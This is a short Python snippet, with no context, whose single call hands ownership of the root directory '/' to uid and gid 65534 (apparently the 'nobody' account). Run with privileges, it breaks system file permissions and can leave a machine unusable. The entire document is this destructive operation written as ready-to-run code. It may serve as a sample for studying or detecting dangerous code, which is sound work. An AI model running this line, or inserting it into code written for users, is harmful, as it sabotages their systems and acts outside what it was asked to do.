import os

os.chown("/", 65534, 65534)
